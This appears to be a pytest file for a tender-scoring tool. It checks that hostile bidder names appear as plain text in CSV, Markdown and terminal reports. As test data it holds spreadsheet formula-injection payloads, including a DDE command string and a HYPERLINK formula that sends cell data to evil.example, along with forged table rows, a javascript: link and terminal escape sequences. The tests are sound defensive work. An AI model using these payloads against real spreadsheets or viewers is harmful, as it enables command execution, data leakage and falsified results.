"""Bidder names are plain text in every score report (issue 8, item 8).

A bid names its bidder, so a hostile supplier chooses text that the evaluator's spreadsheet,
Markdown viewer or terminal would otherwise read as a formula, a table row or markup. The
reader refuses control characters in names; these tests build bids directly (as the API allows)
so the reports are shown to hold even for a name that slipped past it.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import markdown
import pytest
from click.testing import CliRunner

from svspec.cli import main
from svspec.scoring import engine, report
from svspec.scoring.engine import Scoring
from tests.scoring.helpers import bid, write_tender

TENDER = '''tender b "Bids"
  contract value £100,000 over 1 year
  criteria
    price 50%, scored relative to lowest
    social value 50%
  social value measures
    JOBS weight 50%
    LW weight 50%
'''

FORMULAS = ["=cmd|'/c calc'!A0", '=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+SUM(1,2)", "@SUM(1,2)",
            "-2+3", "\t=1+1", "\r=1+1", " =1+1"]
FORGED_ROW = "Mallory | 99.00 | 99.00 | winner |\n| 1 | Forged Ltd"


def _scoring(tmp_path: Path, *names: str) -> Scoring:
    tender = write_tender(tmp_path, TENDER)
    bids = [bid(name, tender, price=10 + i, social_value={"JOBS": 1, "LW": True}) for i, name in enumerate(names)]
    scoring, diagnostics = engine.score(tender, bids)
    assert scoring is not None, [d.message for d in diagnostics]
    return scoring


def _audit(scoring: Scoring) -> report.Audit:
    return report.make_audit(scoring, {}, [], None)


@pytest.mark.parametrize("name", FORMULAS)
def test_a_bidder_named_like_a_formula_is_a_text_cell_in_the_csv(tmp_path: Path, name: str) -> None:
    text = report.to_csv(_scoring(tmp_path, "Honest Ltd", name))
    rows = list(csv.reader(io.StringIO(text)))
    bidders = [row[1] for row in rows[1:]]
    assert "Honest Ltd" in bidders
    written = next(b for b in bidders if b != "Honest Ltd")
    assert written.lstrip()[:1] not in ("=", "+", "-", "@", "\t", "\r"), written
    assert written in ("'" + name, name.replace("\t", "\\t").replace("\r", "\\r"))
    assert all(line.startswith('"') for line in text.splitlines()), "every cell is quoted"


def test_a_name_with_a_newline_cannot_add_a_row_to_the_csv(tmp_path: Path) -> None:
    text = report.to_csv(_scoring(tmp_path, "Honest Ltd", "Evil\n1,Forged,100,winner"))
    assert len(text.splitlines()) == 3
    assert [row[1] for row in csv.reader(io.StringIO(text))][1:] == ["Honest Ltd", "Evil\\n1,Forged,100,winner"]


def _table_rows(md_text: str) -> list[list[str]]:
    """The ranking table as a Markdown renderer sees it: the text of each body row's cells."""
    html = markdown.markdown(md_text, extensions=["tables"]).split("<h2>Ranking</h2>", 1)[1]
    body = html.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    return [re.findall(r"<td[^>]*>(.*?)</td>", row, re.S) for row in re.findall(r"<tr>(.*?)</tr>", body, re.S)]


def test_a_name_with_pipes_and_newlines_cannot_forge_a_winner_row_in_markdown(tmp_path: Path) -> None:
    scoring = _scoring(tmp_path, "Honest Ltd", FORGED_ROW)
    text = report.to_markdown(scoring, _audit(scoring))
    rows = _table_rows(text)
    assert len(rows) == 2
    assert all(len(cells) == len(rows[0]) for cells in rows)
    assert [cells[-1] for cells in rows].count("winner") == 1
    assert "Forged Ltd" not in "".join(cells[0] for cells in rows)
    ranking = text.split("## Ranking", 1)[1].split("\n## ", 1)[0]
    assert sum(line.startswith("|") for line in ranking.splitlines()) == 4, "header, rule and two rows"


def test_a_name_with_markdown_links_and_html_shows_as_text_in_markdown(tmp_path: Path) -> None:
    name = "[Click](javascript:alert(1)) <img src=https://evil.example/x.png> **bold**"
    scoring = _scoring(tmp_path, "Honest Ltd", name)
    html = markdown.markdown(report.to_markdown(scoring, _audit(scoring), summaries=[name]), extensions=["tables"])
    assert "<a " not in html and "<img" not in html and "<strong>bold" not in html
    assert "[Click](javascript:alert(1))" in html


def test_a_name_cannot_forge_a_row_or_a_block_in_the_explanation_list(tmp_path: Path) -> None:
    name = "Evil\n```\n\n| 1 | Forged | winner |\n\n```"
    scoring = _scoring(tmp_path, "Honest Ltd", name)
    html = markdown.markdown(report.to_markdown(scoring, _audit(scoring), explain=[name]),
                             extensions=["tables", "fenced_code"])
    explanation = html.split("<h2>Explanation: ", 1)[1]
    assert "<pre>" not in explanation and "<table>" not in explanation
    assert "Forged" in explanation and "Total: " in explanation


@pytest.mark.parametrize("name", ["[/bold]", "[b][/b]", "[bold red]Winner[/bold red]", "[link=https://x.example]x"])
def test_rich_markup_in_a_name_is_printed_as_written_in_the_table(tmp_path: Path, name: str) -> None:
    scoring = _scoring(tmp_path, "Honest Ltd", name)
    text = report.print_table(scoring, _audit(scoring), explain=[name], summaries=[name], width=200)
    assert name.replace("[", "\\[") in text or name in text
    row = next(line for line in text.splitlines() if "Honest Ltd" not in line and "[" in line and "│" in line)
    assert name in row


def test_terminal_escapes_and_newlines_in_a_name_are_shown_as_codes_in_the_table(tmp_path: Path) -> None:
    scoring = _scoring(tmp_path, "Honest Ltd", "Evil\x1b[2J\nWinner\u202e")
    text = report.print_table(scoring, _audit(scoring), width=200)
    assert "\x1b" not in text and "\u202e" not in text
    assert "Evil\\u001b[2J\\nWinner\\u202e" in text


def test_score_command_writes_hostile_names_as_text_in_csv_md_and_table(tmp_path: Path) -> None:
    """End to end, through the bid reader: names the reader accepts are still safe in each format."""
    (tmp_path / "svspec.toml").write_text("", encoding="utf-8")
    write_tender(tmp_path, TENDER)
    tender = tmp_path / "tender.svspec"
    names = ["=HYPERLINK(\"https://evil.example\",\"x\")", "[/bold]", "Mallory | 99.00 | winner"]
    files = []
    for i, name in enumerate(names):
        path = tmp_path / f"bid{i}.yaml"
        quoted = name.replace("\\", "\\\\").replace('"', '\\"')
        path.write_text(f'tender: b\nbidder: "{quoted}"\nprice: {10 + i}\nsocial_value:\n  JOBS: 1\n  LW: yes\n',
                        encoding="utf-8")
        files.append(str(path))
    runner = CliRunner()
    for fmt in ("csv", "md", "table"):
        result = runner.invoke(main, ["score", str(tender), *files, "--format", fmt], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        out = result.stdout
        if fmt == "csv":
            assert "\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"x\"\")\"" in out
        elif fmt == "md":
            assert "Mallory \\| 99.00 \\| winner" in out and "\\[/bold\\]" in out
            assert len(_table_rows(out)) == 3
        else:
            assert "[/bold]" in out and "Mallory | 99.00 | winner" in out
